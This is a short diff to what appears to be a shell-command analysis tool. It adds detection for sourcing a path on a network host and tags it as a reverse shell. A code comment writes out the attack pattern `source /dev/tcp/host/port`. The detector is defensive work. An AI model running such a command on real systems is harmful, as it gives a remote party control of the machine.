@@ -348,6 +348,9 @@ class Invocation:
                 # What another program printed into it nobody has seen.
                 self.fact(Effect.EXECUTES, tags=("stream",), at=word.span, detail=language)
         place = Place.SECRET if is_secret(path) else place_of(path, self.walker.ground)
+        if place is Place.HOST:
+            # Attack: `source /dev/tcp/host/port`: whoever answers there types the commands.
+            self.fact(Effect.NETWORK, tags=("reverse-shell",), at=word.span)
         tag = "file" if word.known else "unknown-file"
         target = Target(text=word, place=place, path=path)
         self.fact(Effect.EXECUTES, target, tags=(tag,), at=word.span)
